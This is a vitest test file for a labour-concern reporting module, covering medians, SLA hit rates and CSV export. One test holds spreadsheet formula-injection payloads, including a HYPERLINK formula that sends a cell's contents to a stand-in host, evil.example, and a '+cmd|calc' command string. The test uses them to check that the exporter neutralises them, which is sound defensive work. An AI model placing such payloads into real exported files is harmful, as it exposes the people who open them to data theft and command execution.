import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addMember, assign, fastPolicy } from '../../test/support/concern-fixtures.js';
import { insertSampleUnits } from '../../test/support/sample-units.js';
import { startTestApp, type TestApp } from '../../test/support/test-app.js';
import { buildConcernReport, median, reportToCsv } from './reports.js';

let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
  await insertSampleUnits(app.models);
  app.services.concerns.policy = fastPolicy(3600, 7200);
});
afterAll(async () => app?.close());

describe('concern reports', () => {
  it('takes the median of odd and even counts', () => {
    expect(median([])).toBeNull();
    expect(median([5, 1, 3])).toBe(3);
    expect(median([4, 1, 3, 2])).toBe(2.5);
  });

  it('counts open and resolved by category, unit and level, the SLA hit rate and median times', async () => {
    const s = app.services.concerns;
    await addMember(app, { id: 'cad', roles: ['cadre'] });
    await assign(app, { memberId: 'cad', unit: 'vsip1', organisation: 'trade_union' });
    for (const w of ['w1', 'w2', 'w3']) await addMember(app, { id: w, orgUnitId: 'ent-hoa-sen' });
    const submit = (memberId: string, category: string) => s.submit({ memberId, category, orgUnitId: 'ent-hoa-sen', description: 'mô tả sự việc', photos: 0, anonymous: true, intakeKey: `${memberId}-${category}`, at: app.clock.now() });
    const a = await submit('w1', 'wages');
    const b = await submit('w2', 'wages');
    const c = await submit('w3', 'overtime');
    app.clock.advance(30 * 60_000);
    await s.act('cad', a.concern._id, { kind: 'accept' }, app.clock.now(), 'e1');
    app.clock.advance(30 * 60_000);
    await s.act('cad', a.concern._id, { kind: 'resolve', summary: 'xong' }, app.clock.now(), 'e2');
    // b's first response (the resolution) comes 2 h 1 min after intake: both SLAs (1 h, 2 h) missed.
    app.clock.advance(61 * 60_000);
    await s.act('cad', b.concern._id, { kind: 'resolve', summary: 'xong' }, app.clock.now(), 'e3');
    void c;

    const report = await buildConcernReport(s.cm);
    expect(report.rows.map((r) => [r.category, r.orgUnitId, r.level, r.open, r.resolved])).toEqual([
      ['overtime', 'ent-hoa-sen', 0, 1, 0],
      ['wages', 'ent-hoa-sen', 0, 0, 2],
    ]);
    const wages = report.rows[1]!;
    expect(wages).toMatchObject({ slaMet: 2, slaTotal: 4, slaHitRate: 0.5, medianFirstResponseMinutes: 75.5, medianResolutionMinutes: 90.5 });
    expect(report.total).toMatchObject({ open: 1, resolved: 2 });
    const csv = reportToCsv(report);
    expect(csv.startsWith('\uFEFFcategory,org_unit,level,open,resolved,')).toBe(true);
    expect(csv.split('\r\n')).toEqual([
      '\uFEFFcategory,org_unit,level,open,resolved,flagged,sla_met,sla_total,sla_hit_rate,median_first_response_min,median_resolution_min',
      'overtime,ent-hoa-sen,0,1,0,0,0,0,,,',
      'wages,ent-hoa-sen,0,0,2,0,2,4,0.5,75.5,90.5',
      '*,*,*,1,2,0,2,4,0.5,75.5,90.5',
      '',
    ]);
  });

  it('writes a CSV that Excel opens safely: BOM first, and a unit or category that looks like a formula is shown as text', () => {
    const row = (category: string, orgUnitId: string, level: number) => ({
      category, orgUnitId, level, open: 1, resolved: 0, flagged: 0, slaMet: 0, slaTotal: 0, slaHitRate: null, medianFirstResponseMinutes: null, medianResolutionMinutes: -1.5,
    });
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
    const csv = reportToCsv({ rows: [row('wages', evil, 0), row('+cmd|calc', '@SUM(1+1)', 1)], total: row('*', '*', -1) });
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = csv.split('\r\n');
    expect(lines[1]).toBe(`wages,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")",0,1,0,0,0,0,,,-1.5`);
    expect(lines[2]).toBe(`'+cmd|calc,'@SUM(1+1),1,1,0,0,0,0,,,-1.5`);
    expect(lines[3]).toBe('*,*,*,1,0,0,0,0,,,-1.5');
    // No line of the file starts a cell with a formula character any more.
    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+@]/);
  });
});
